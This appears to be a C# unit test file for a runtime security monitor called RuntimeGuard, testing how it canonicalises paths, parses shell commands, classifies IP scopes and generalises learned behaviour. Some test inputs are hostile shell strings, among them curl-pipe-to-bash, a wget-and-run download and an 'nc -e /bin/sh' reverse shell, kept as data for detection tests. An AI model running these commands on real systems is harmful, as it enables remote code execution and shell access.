using System.Net;
using System.Text;
using RuntimeGuard.Models;
using RuntimeGuard.Proto;

namespace RuntimeGuard.Tests.Unit.Models;

public sealed class GeneraliserTests
{
    [Theory]
    [InlineData("/etc/nginx/nginx.conf", "/etc/nginx/nginx.conf")]
    [InlineData("//srv/./app//x/../y", "/srv/app/y")]
    [InlineData("/../..", "/")]
    [InlineData("/proc/4711/environ", "/proc/<n>/environ")]
    [InlineData("/proc/7/task/8/comm", "/proc/<n>/task/<n>/comm")]
    [InlineData("/srv/log-2024-11-07.txt", "/srv/log-<n>-<n>-<n>.txt")]
    [InlineData("/srv/v1/x", "/srv/v1/x")]
    [InlineData("/data/9f86d081884c7d659a2feaa0c55ad015/part", "/data/<h>/part")]
    [InlineData("/data/123e4567-e89b-12d3-a456-426614174000.json", "/data/<uuid>.json")]
    [InlineData("/tmp/tmp.aB3xYz12Qq", "/tmp/tmp.<r>")]
    [InlineData("/tmp/phpAb3xYz", "/tmp/php<r>")]
    [InlineData("/mnt/config/..2024_01_02_03_04_05.123456789/app.conf", "/mnt/config/..data/app.conf")]
    [InlineData("/var/run/secrets/kubernetes.io/serviceaccount/..2024_01_02_03_04_05.1/token",
        "/var/run/secrets/kubernetes.io/serviceaccount/..data/token")]
    [InlineData("/usr/bin/python3.11", "/usr/bin/python3.11")]
    [InlineData("/srv/a*b<n> c", "/srv/a_b_n__c")]
    [InlineData("/opt/deadbeef/x", "/opt/deadbeef/x")]
    public void Paths_are_canonical(string path, string expected) => Assert.Equal(expected, Canonical(path));

    [Theory]
    [InlineData("nginx -g daemon_off;", "nginx", "-g", "daemon off;")]
    [InlineData("curl -s http://10.0.0.5:8080/…", "curl", "-s", "http://user:pw@10.0.0.5:8080/a?b=1")]
    [InlineData("sleep <n>", "sleep", "3600")]
    [InlineData("sh -c {cat,curl}", "sh", "-c", "curl -s http://x/y | cat > /tmp/z")]
    [InlineData("sh -lc {}", "sh", "-lc", "echo hello; exit 0")]
    [InlineData("python3 --port=<n> app.py", "python3", "--port=8080", "app.py")]
    [InlineData("x <b64>", "x", "aGVsbG8gd29ybGQhIFhZWjEyMzQ1Njc4OTA=")]
    [InlineData("x <secret>", "x", "<secret>")]
    [InlineData("x --token=<secret>", "x", "--token=<secret>")]
    [InlineData("x ''", "x", "")]
    [InlineData("x a b c d e f g h …", "x", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j")]
    public void Arguments_become_templates(string expected, params string[] arguments)
    {
        Span<byte> buffer = stackalloc byte[1024];
        var to = new ByteWriter(buffer);
        to.Add(Encoding.UTF8.GetBytes(arguments[0]));
        var command = Encoding.UTF8.GetBytes(arguments[0]);
        CommandPattern.Write(Encoding.UTF8.GetBytes(string.Concat(arguments.Select(a => a + "\0"))), 1, command,
            Tools.KindOf(command), ref to, out _);
        Assert.Equal(expected, Encoding.UTF8.GetString(to.Written));
    }

    [Theory]
    [InlineData("curl -s http://x | bash", "bash,curl")]
    [InlineData("cd /tmp && wget http://x -O- > y; chmod +x y; ./y &", "./y,chmod,wget")]
    [InlineData("FOO=bar exec nc -e /bin/sh 10.0.0.1 4444", "nc")]
    [InlineData("if [ -f /x ]; then cat /x; else id; fi", "cat,id")]
    [InlineData("for f in a b c; do rm $f; done", "rm")]
    [InlineData("echo $(whoami)", "whoami")]
    [InlineData("echo \"it is `date`\"", "date")]
    [InlineData("x=\"$(id -u)\"", "id")]
    [InlineData("x=\"$(id)\"; curl evil", "curl,id")]
    [InlineData("echo \"a $(cat \"$(which b)\") c\" && nc x", "cat,nc,which")]
    [InlineData("ls 2>&1 >/dev/null", "ls")]
    [InlineData("env A=1 python3 x.py", "env,python3")]
    [InlineData("# only words", "")]
    [InlineData("sudo id", "id,sudo")]
    [InlineData("'unclosed quote ; id", "'unclosed quote ; id")]
    public void Shell_code_is_read_as_the_commands_it_runs(string code, string expected)
    {
        var bytes = Encoding.UTF8.GetBytes(code);
        Span<Range> words = stackalloc Range[ShellWords.Most];
        var count = ShellWords.Find(bytes, words, out _);
        var found = new List<string>();
        for (var i = 0; i < count; i++)
            found.Add(Encoding.UTF8.GetString(bytes[words[i]]));
        Assert.Equal(expected, string.Join(',', found));
    }

    [Theory]
    [InlineData("10.1.2.3", "Private")]
    [InlineData("172.31.0.1", "Private")]
    [InlineData("172.32.0.1", "Public")]
    [InlineData("127.0.0.1", "Private")]
    [InlineData("169.254.169.254", "Metadata")]
    [InlineData("169.254.1.1", "Private")]
    [InlineData("8.8.8.8", "Public")]
    [InlineData("::1", "Private")]
    [InlineData("fd00:ec2::254", "Metadata")]
    [InlineData("fd00::1", "Private")]
    [InlineData("2001:db8::1", "Public")]
    [InlineData("::ffff:10.0.0.1", "Private")]
    public void Peers_have_a_scope(string address, string expected) =>
        Assert.Equal(expected, PeerPattern.ScopeOf(IPAddress.Parse(address).GetAddressBytes()).ToString());

    [Fact]
    public void Eight_uploads_are_any_upload_but_never_a_script()
    {
        var names = new Generaliser();
        foreach (var name in (string[])["one", "two", "three", "four", "five", "six", "seven", "eight"])
            Learn(names, BehaviourClass.FileWrite, $"/srv/uploads/{name}.jpg", 1);
        Assert.Equal("/srv/uploads/*w.jpg", Generalised(names, BehaviourClass.FileWrite, "/srv/uploads/nine.jpg"));
        Assert.Equal("/srv/uploads/nine.php", Generalised(names, BehaviourClass.FileWrite, "/srv/uploads/nine.php"));
        Assert.Equal("/srv/uploads/*w.jpg", Generalised(names, BehaviourClass.FileWrite, "/srv/uploads/*w.jpg"));
    }

    [Fact]
    public void Names_seen_again_are_literal_again_in_whatever_order_they_came()
    {
        string[] words = ["a", "b", "c", "d", "e", "f", "g", "h", "i"];
        var names = new Generaliser();
        foreach (var name in words)
            Learn(names, BehaviourClass.FileWrite, $"/srv/db/{name}", Unit(1));
        Assert.Equal("/srv/db/*w", Generalised(names, BehaviourClass.FileWrite, "/srv/db/z"));
        foreach (var name in words)
            Learn(names, BehaviourClass.FileWrite, $"/srv/db/{name}", Unit(2));
        Assert.Equal("/srv/db/z", Generalised(names, BehaviourClass.FileWrite, "/srv/db/z"));
        var steady = new Generaliser();
        foreach (var name in words)
            foreach (var unit in (ulong[])[1, 2])
                Learn(steady, BehaviourClass.FileWrite, $"/srv/db/{name}", Unit(unit));
        Assert.Equal("/srv/db/z", Generalised(steady, BehaviourClass.FileWrite, "/srv/db/z"));
    }

    [Fact]
    public void Sixty_four_names_are_any_name_however_often_they_recur_and_so_are_many_texts_below_sixteen()
    {
        var names = new Generaliser();
        for (var i = 0; i < 64; i++)
            for (ulong unit = 1; unit <= 3; unit++)
                Learn(names, BehaviourClass.FileWrite, $"/srv/a/{BaselinePropertyTests.Letters(i)}", Unit(unit));
        Assert.Equal("/srv/a/*w", Identified(names, BehaviourClass.FileWrite, "/srv/a/zz"));
        for (var i = 0; i < 16; i++)
        {
            Assert.Equal($"/srv/b/{BaselinePropertyTests.Letters(i)}/x", Identified(names, BehaviourClass.FileWrite, $"/srv/b/{BaselinePropertyTests.Letters(i)}/x"));
            for (var j = 0; j < 8; j++)
                for (ulong unit = 1; unit <= 3; unit++)
                    Learn(names, BehaviourClass.FileWrite, $"/srv/b/{BaselinePropertyTests.Letters(i)}/{BaselinePropertyTests.Letters(j)}", Unit(unit));
        }
        Assert.Equal("/srv/b/*w/x", Identified(names, BehaviourClass.FileWrite, "/srv/b/zz/x"));
    }

    [Fact]
    public void Peers_of_a_prefix_become_the_prefix_and_prefixes_the_scope()
    {
        var peers = new Generaliser();
        for (var i = 1; i <= 8; i++)
            Learn(peers, BehaviourClass.NetOut, $"tcp public 203.0.113.{i}:443", 1);
        Assert.Equal("tcp public 203.0.113.*:443", Generalised(peers, BehaviourClass.NetOut, "tcp public 203.0.113.99:443"));
        Assert.Equal("tcp public 198.51.100.1:443", Generalised(peers, BehaviourClass.NetOut, "tcp public 198.51.100.1:443"));
        Assert.Equal("tcp public 203.0.113.99:80", Generalised(peers, BehaviourClass.NetOut, "tcp public 203.0.113.99:80"));
        for (var i = 1; i <= 8; i++)
            Learn(peers, BehaviourClass.NetOut, $"tcp public 198.51.{i}.7:443", 1);
        Assert.Equal("tcp public *:443", Generalised(peers, BehaviourClass.NetOut, "tcp public 192.0.2.1:443"));
        Assert.Equal("tcp private 10.0.0.1:443", Generalised(peers, BehaviourClass.NetOut, "tcp private 10.0.0.1:443"));
        Assert.Equal("tcp metadata 169.254.169.254:443",
            Generalised(peers, BehaviourClass.NetOut, "tcp metadata 169.254.169.254:443"));
    }

    [Fact]
    public void The_ninth_port_from_1024_up_makes_ports_high()
    {
        var peers = new Generaliser();
        for (var port = 5000; port < 5008; port++)
            Learn(peers, BehaviourClass.NetOut, $"tcp private 10.0.0.1:{port}", 1);
        Learn(peers, BehaviourClass.NetOut, "tcp private 10.0.0.1:5008", 2);
        Assert.Equal("tcp private 10.0.0.1:high", Generalised(peers, BehaviourClass.NetOut, "tcp private 10.0.0.1:7000"));
        Assert.Equal("tcp private 10.0.0.1:22", Generalised(peers, BehaviourClass.NetOut, "tcp private 10.0.0.1:22"));
    }

    [Fact]
    public void Argument_values_of_one_position_become_any_word()
    {
        var commands = new Generaliser();
        foreach (var name in (string[])["ant", "bee", "cat", "dog", "eel", "fox", "gnu", "hen"])
            Learn(commands, BehaviourClass.Exec, $"/usr/bin/render {name} -o /srv/out/{name}.png", 1);
        Assert.Equal("/usr/bin/render *word -o *path",
            Generalised(commands, BehaviourClass.Exec, "/usr/bin/render owl -o /srv/out/owl.png"));
        Assert.Equal("/usr/bin/render *word -o /etc/shadow",
            Generalised(commands, BehaviourClass.Exec, "/usr/bin/render owl -o /etc/shadow"));
        Assert.Equal("/usr/bin/other owl", Generalised(commands, BehaviourClass.Exec, "/usr/bin/other owl"));
    }

    static string Canonical(string path)
    {
        Span<byte> buffer = stackalloc byte[1024];
        var to = new ByteWriter(buffer);
        PathPattern.Canonicalise(Encoding.UTF8.GetBytes(path), ref to);
        return Encoding.UTF8.GetString(to.Written);
    }

    internal static void Learn(Generaliser generaliser, BehaviourClass c, string text, ulong unit)
    {
        generaliser.Learn(c, Encoding.UTF8.GetBytes(text), unit, again: false);
    }

    /// <summary>A hash as units have them: their lowest byte does not tell them apart.</summary>
    internal static ulong Unit(ulong number) => KeyHash.Mix(number, 0);

    internal static string Identified(Generaliser generaliser, BehaviourClass c, string text)
    {
        var to = new ByteWriter(new byte[4096]);
        generaliser.Identify(c, Encoding.UTF8.GetBytes(text), ref to);
        return Encoding.UTF8.GetString(to.Written);
    }

    internal static string Generalised(Generaliser generaliser, BehaviourClass c, string text)
    {
        var to = new ByteWriter(new byte[4096]);
        generaliser.Generalise(c, Encoding.UTF8.GetBytes(text), ref to);
        return Encoding.UTF8.GetString(to.Written);
    }
}
